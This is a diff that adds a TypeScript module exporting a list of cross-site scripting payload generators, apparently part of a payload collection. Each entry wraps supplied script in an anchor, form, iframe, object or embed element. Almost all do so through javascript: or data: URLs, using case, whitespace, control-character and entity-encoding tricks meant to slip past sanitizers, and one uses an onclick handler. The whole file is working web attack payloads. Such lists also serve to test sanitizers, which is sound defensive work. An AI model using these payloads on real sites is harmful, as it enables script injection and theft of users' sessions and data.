@@ -1,0 +1,42 @@
+import { decimal, hex, type Payload } from './payload.ts'
+
+const link = (address: string) => `<a href="${address}">x</a>`
+
+/** Addresses that are code. The person presses what there is to press. */
+export const codeAddresses: readonly Payload[] = [
+  (run) => link(`javascript:${run}`),
+  (run) => link(`JaVaScRiPt:${run}`),
+  (run) => link(` javascript:${run}`),
+  (run) => link(`\u0001javascript:${run}`),
+  (run) => link(`java\tscript:${run}`),
+  (run) => link(`java\nscript:${run}`),
+  (run) => link(`java\rscript:${run}`),
+  (run) => link(`java&Tab;script:${run}`),
+  (run) => link(`java&NewLine;script:${run}`),
+  (run) => link(`javascript&colon;${run}`),
+  (run) => link(`&#106;avascript:${run}`),
+  (run) => link(`&#x6A;avascript:${run}`),
+  (run) => link(`&#0000106avascript:${run}`),
+  (run) => link(hex(`javascript:${run}`)),
+  (run) => link(decimal(`javascript:${run}`)),
+  (run) => link(`&#14; javascript:${run}`),
+  (run) => link(`javascript://example.org/%0a${run}`),
+  (run) => link(`javascript:/*--></title></style>*/${run}`),
+  (run) => `<a href=javascript:${run}>x</a>`,
+  (run) => `<a href='javascript:${run}'>x</a>`,
+  (run) => `<a\nhref\n=\njavascript:${run}>x</a>`,
+  (run) => `<a href="javascript:${run}" target=_self rel=noopener>x</a>`,
+  (run) => `<a href="https://example.org" href="x" onclick="${run};return false">x</a>`,
+  (run) => `<map><area href="javascript:${run}" shape=default></map>`,
+  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
+  (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
+  (run) => `<form><input type=submit formaction="javascript:${run}"></form>`,
+  (run) => `<form id=f></form><button form=f formaction="javascript:${run}">x</button>`,
+  (run) => `<iframe src="javascript:${run}"></iframe>`,
+  (run) => `<iframe src="java&Tab;script:${run}"></iframe>`,
+  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  (run) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
+  (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
+  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
+  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
+]
